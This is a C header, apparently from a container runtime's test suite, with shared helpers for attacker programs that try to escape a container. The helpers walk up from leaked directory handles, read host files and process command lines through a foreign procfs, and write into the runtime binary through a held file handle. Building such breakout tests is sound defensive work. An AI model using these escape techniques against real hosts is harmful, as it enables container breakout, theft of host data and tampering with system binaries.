/* SPDX-License-Identifier: GPL-2.0-or-later */
/* What the attacker programs share (header only: each attacker is one
 * static binary built from one .c file).
 *
 * The host test prepares /attack in the image: `name` holds a random name
 * N.  On the host, /tmp/N holds a secret and a host process carries N and
 * the secret in its command line; nothing in the container knows the
 * secret, so any report line showing it proves that the attacker read a
 * host-only file or process.  Attackers append what they achieved to
 * /attack/report (or stdout), and stop when /attack/stop appears. */
#ifndef ATTACK_COMMON_H
#define ATTACK_COMMON_H

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/magic.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

#define ATTACK_DIR "/attack"
/* Every attacker uses some of these helpers. */
#define ATTACK_FN static __attribute__ ((unused))

static const char *report_path = ATTACK_DIR "/report";

ATTACK_FN void __attribute__ ((format (printf, 1, 2)))
report (const char *fmt, ...)
{
  char buf[4096];
  va_list ap;
  int n, fd;

  va_start (ap, fmt);
  n = vsnprintf (buf, sizeof buf - 1, fmt, ap);
  va_end (ap);
  if (n < 0)
    return;
  if (n > (int) sizeof buf - 2)
    n = sizeof buf - 2;
  buf[n++] = '\n';
  if (strcmp (report_path, "-") == 0)
    {
      if (write (1, buf, n) < 0)
        return;
      return;
    }
  /* Reopened for every line: the cwd or the fds may change under us. */
  fd = open (report_path, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0666);
  if (fd < 0)
    return;
  if (write (fd, buf, n) < 0)
    n = 0;
  close (fd);
}

ATTACK_FN double
now_s (void)
{
  struct timespec ts;
  clock_gettime (CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

ATTACK_FN void
sleep_ms (long ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

ATTACK_FN bool
stop_requested (void)
{
  return access (ATTACK_DIR "/stop", F_OK) == 0;
}

/* The random name N the host chose (see the top of this file). */
ATTACK_FN const char *
marker_name (void)
{
  static char name[128];
  int fd;
  ssize_t n;

  if (name[0])
    return name;
  fd = open (ATTACK_DIR "/name", O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return "casing-attack-unknown";
  n = read (fd, name, sizeof name - 1);
  close (fd);
  if (n <= 0)
    return "casing-attack-unknown";
  name[n] = '\0';
  name[strcspn (name, "\n")] = '\0';
  return name;
}

/* The target of /proc/self/fd/FD ("?" when unreadable). */
ATTACK_FN const char *
fd_link (int fd, char *buf, size_t size)
{
  char path[64];
  ssize_t n;

  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  n = readlink (path, buf, size - 1);
  if (n < 0)
    n = snprintf (buf, size, "?");
  buf[n] = '\0';
  return buf;
}

/* Whether FD is a file that the container's own tree does not show at the
 * path the kernel gives for it: a host file reached through a leak. */
ATTACK_FN bool
foreign_file (int fd)
{
  char link[PATH_MAX];
  struct stat a, b;

  fd_link (fd, link, sizeof link);
  if (fstat (fd, &a) < 0)
    return false;
  if (stat (link, &b) < 0)
    return true;
  return a.st_dev != b.st_dev || a.st_ino != b.st_ino;
}

/* ---- watching for new processes in our pid namespace ---- */

struct pid_watch
{
  int proc_fd;
  unsigned char *seen;
  long max;
};

ATTACK_FN bool
pid_seen (struct pid_watch *w, long pid)
{
  bool was;

  if (pid <= 0 || pid >= w->max)
    return true;
  was = w->seen[pid / 8] & (1 << (pid % 8));
  w->seen[pid / 8] |= 1 << (pid % 8);
  return was;
}

struct linux_dirent64
{
  unsigned long long d_ino;
  long long d_off;
  unsigned short d_reclen;
  unsigned char d_type;
  char d_name[];
};

/* Calls FN for every pid that appeared since the last scan, at once (the
 * window of a runtime process may be short). */
ATTACK_FN void
pid_watch_scan (struct pid_watch *w, void (*fn) (pid_t pid, void *data), void *data)
{
  char buf[16384];
  long n;

  lseek (w->proc_fd, 0, SEEK_SET);
  while ((n = syscall (SYS_getdents64, w->proc_fd, buf, sizeof buf)) > 0)
    for (long off = 0; off < n;)
      {
        struct linux_dirent64 *d = (struct linux_dirent64 *) (buf + off);
        off += d->d_reclen;
        if (d->d_name[0] >= '1' && d->d_name[0] <= '9')
          {
            long pid = strtol (d->d_name, NULL, 10);
            if (!pid_seen (w, pid) && fn)
              fn ((pid_t) pid, data);
          }
      }
}

/* Everything that exists now (ourselves included) is not new. */
ATTACK_FN int
pid_watch_init (struct pid_watch *w)
{
  FILE *f = fopen ("/proc/sys/kernel/pid_max", "re");

  w->max = 4194304;
  if (f)
    {
      if (fscanf (f, "%ld", &w->max) != 1)
        w->max = 4194304;
      fclose (f);
    }
  w->max++;
  w->seen = calloc (w->max / 8 + 1, 1);
  w->proc_fd = open ("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (w->seen == NULL || w->proc_fd < 0)
    return -1;
  pid_watch_scan (w, NULL, NULL);
  return 0;
}

/* Pids a check of the kernel refused once, tried again at every scan while
 * they live: a process that enters a container changes its credentials as
 * it goes (it may join our user namespace only after it appeared). */
#define RETRY_MAX 64

struct retry_list
{
  pid_t pid[RETRY_MAX];
  int n;
};

ATTACK_FN void
retry_add (struct retry_list *r, pid_t pid)
{
  if (r->n < RETRY_MAX)
    r->pid[r->n++] = pid;
}

/* FN returns true once done with the pid (whatever the outcome); a pid
 * that exited is dropped. */
ATTACK_FN void
retry_scan (struct retry_list *r, bool (*fn) (pid_t pid, void *data), void *data)
{
  for (int i = 0; i < r->n;)
    {
      char path[32];
      snprintf (path, sizeof path, "/proc/%d", (int) r->pid[i]);
      if (access (path, F_OK) != 0 || fn (r->pid[i], data))
        r->pid[i] = r->pid[--r->n];
      else
        i++;
    }
}

/* ---- trying to reach the host from a directory handle ---- */

ATTACK_FN ssize_t
read_at (int dirfd, const char *path, char *buf, size_t size)
{
  int fd = openat (dirfd, path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  ssize_t n;

  if (fd < 0)
    return -1;
  n = read (fd, buf, size - 1);
  close (fd);
  if (n < 0)
    return -1;
  while (n > 0 && buf[n - 1] == '\n')
    n--;
  buf[n] = '\0';
  return n;
}

ATTACK_FN bool
is_procfs (int fd)
{
  struct statfs s;
  return fstatfs (fd, &s) == 0 && s.f_type == PROC_SUPER_MAGIC;
}

/* A procfs that does not show us as `self`: another pid namespace's, the
 * host's when it leaked in. */
ATTACK_FN bool
foreign_procfs (int dirfd)
{
  char buf[32];
  ssize_t n;

  if (!is_procfs (dirfd))
    return false;
  n = readlinkat (dirfd, "self", buf, sizeof buf - 1);
  if (n <= 0)
    return true;
  buf[n] = '\0';
  return strtol (buf, NULL, 10) != (long) getpid ();
}

ATTACK_FN void
nul_to_space (char *buf, ssize_t n)
{
  for (ssize_t i = 0; i < n; i++)
    if (buf[i] == '\0' || buf[i] == '\n')
      buf[i] = ' ';
}

/* Through a foreign procfs: the host's init, the host process that carries
 * the marker name (its secret is in its command line), that process's
 * files through <pid>/root, a harmless write to its oom_score_adj, and
 * whether the host's kernel.core_pattern could be opened for writing (it
 * is closed at once, never written). */
ATTACK_FN void
probe_foreign_procfs (int dirfd, const char *label)
{
  const char *name = marker_name ();
  char buf[4096], path[PATH_MAX];
  struct dirent *d;
  DIR *dir;
  ssize_t n;
  int fd;

  if ((n = read_at (dirfd, "1/cmdline", buf, sizeof buf)) > 0)
    {
      nul_to_space (buf, n);
      report ("%s: foreign procfs: its pid 1 runs `%s`", label, buf);
    }
  snprintf (path, sizeof path, "1/root/tmp/%s", name);
  if (read_at (dirfd, path, buf, sizeof buf) > 0)
    report ("%s: read %s: %s", label, path, buf);
  fd = openat (dirfd, "sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC);
  if (fd >= 0)
    {
      close (fd);
      report ("%s: opened sys/kernel/core_pattern for WRITING through it (closed unwritten)", label);
    }
  fd = openat (dirfd, ".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  dir = fd >= 0 ? fdopendir (fd) : NULL;
  if (dir == NULL && fd >= 0)
    close (fd);
  while (dir && (d = readdir (dir)))
    {
      if (d->d_name[0] < '1' || d->d_name[0] > '9')
        continue;
      snprintf (path, sizeof path, "%s/cmdline", d->d_name);
      n = read_at (dirfd, path, buf, sizeof buf);
      if (n <= 0 || memmem (buf, n, name, strlen (name)) == NULL)
        continue;
      nul_to_space (buf, n);
      report ("%s: host process %s: cmdline `%s`", label, d->d_name, buf);
      snprintf (path, sizeof path, "%s/root/tmp/%s", d->d_name, name);
      if (read_at (dirfd, path, buf, sizeof buf) > 0)
        report ("%s: read %s: %s", label, path, buf);
      snprintf (path, sizeof path, "%s/oom_score_adj", d->d_name);
      fd = openat (dirfd, path, O_WRONLY | O_CLOEXEC);
      if (fd >= 0 && write (fd, "789", 3) == 3)
        report ("%s: wrote 789 to host %s", label, path);
      if (fd >= 0)
        close (fd);
    }
  if (dir)
    closedir (dir);
}

/* Walks up from DIRFD with ".." and tries <dir>/tmp/N at every level
 * (N: the marker name); a foreign procfs on the way is searched too.
 * With CREATE, also leaves N.escaped in DIRFD itself: a file the host
 * test looks for. */
ATTACK_FN void
probe_dir (int dirfd, const char *label, bool create)
{
  const char *name = marker_name ();
  char buf[4096], path[PATH_MAX], where[PATH_MAX];
  int cur = dup (dirfd);

  if (create && cur >= 0)
    {
      int fd;
      snprintf (path, sizeof path, "%s.escaped", name);
      fd = openat (cur, path, O_WRONLY | O_CREAT | O_EXCL | O_NOFOLLOW | O_CLOEXEC, 0644);
      if (fd >= 0)
        {
          report ("%s: created %s/%s", label, fd_link (cur, where, sizeof where), path);
          if (write (fd, "escaped\n", 8) < 0)
            report ("%s: write failed", label);
          close (fd);
        }
    }
  for (int depth = 0; cur >= 0 && depth < 24; depth++)
    {
      struct stat a, b;
      int up;

      snprintf (path, sizeof path, "tmp/%s", name);
      if (read_at (cur, path, buf, sizeof buf) > 0)
        report ("%s: read %s (%d levels up, at %s): %s", label, path, depth,
                fd_link (cur, where, sizeof where), buf);
      if (foreign_procfs (cur))
        probe_foreign_procfs (cur, label);
      up = openat (cur, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (up < 0 || fstat (up, &a) < 0 || fstat (cur, &b) < 0
          || (a.st_dev == b.st_dev && a.st_ino == b.st_ino))
        {
          if (up >= 0)
            close (up);
          break;
        }
      close (cur);
      cur = up;
    }
  if (cur >= 0)
    close (cur);
}

/* ---- writing to a held handle of the runtime binary ---- */

/* Reopens FD (an O_PATH handle of an executable) for writing through
 * /proc/self/fd, waiting out ETXTBSY (the kernel refuses while any
 * process executes the file) until DEADLINE; appends a marker. */
ATTACK_FN int
write_through_handle (int fd, double deadline, const char *who)
{
  static const char marker[] = "\nCASING-ATTACK: the container wrote here\n";
  char path[64], link[PATH_MAX];
  bool told = false;

  snprintf (path, sizeof path, "/proc/self/fd/%d", fd);
  fd_link (fd, link, sizeof link);
  while (now_s () < deadline)
    {
      int w = open (path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w >= 0)
        {
          ssize_t n = write (w, marker, sizeof marker - 1);
          int saved = errno;
          close (w);
          if (n < 0)
            {
              report ("%s: opened %s for writing, but write: %s", who, link, strerror (saved));
              return -1;
            }
          report ("%s: WROTE %zd bytes to %s", who, n, link);
          return 0;
        }
      if (errno != ETXTBSY)
        {
          report ("%s: reopen %s for writing: %s", who, link, strerror (errno));
          return -1;
        }
      if (!told)
        report ("%s: %s is busy (ETXTBSY), waiting", who, link);
      told = true;
      sleep_ms (1);
    }
  report ("%s: gave up: %s stayed busy", who, link);
  return -1;
}

#endif
